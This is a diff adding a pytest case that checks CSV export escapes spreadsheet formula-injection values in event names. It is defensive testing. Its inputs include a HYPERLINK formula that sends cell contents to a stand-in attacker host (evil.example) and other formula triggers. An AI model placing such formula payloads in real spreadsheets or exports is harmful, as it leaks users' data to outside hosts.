@@ -1,5 +1,7 @@
 """What an event, a name or an answer can do to the terminal that shows it: nothing."""
 
+import csv
+import io
 import json
 import logging
 import unicodedata
@@ -86,3 +88,16 @@ def test_a_log_record_is_escaped_and_keeps_its_lines():
 def test_text_of_any_script_stays_as_it_is():
     assert escaped("caf\u00e9 \u30c7\u30e2 \u0639 \U0001f600 ~") == "caf\u00e9 \u30c7\u30e2 \u0639 \U0001f600 ~"
     assert escaped("\ud800") == "\\ud800"
+
+
+@pytest.mark.fault("F358")
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-2+3", "@SUM(1)", "\uff1d1"])
+def test_a_name_that_a_spreadsheet_would_compute_is_a_text_in_csv(home: ExportHome, name: str):
+    home.add([custom_event(1, name)])
+    home.write()
+
+    lines = csv.DictReader(io.StringIO(home.verb("events", *DAYS, "--format", "csv").stdout))
+    listed = json.loads(home.verb("events", *DAYS, "--json").stdout)
+
+    assert f"'{name}" in [line["event"] for line in lines]
+    assert name in [event["event"] for event in listed["custom_events"]]
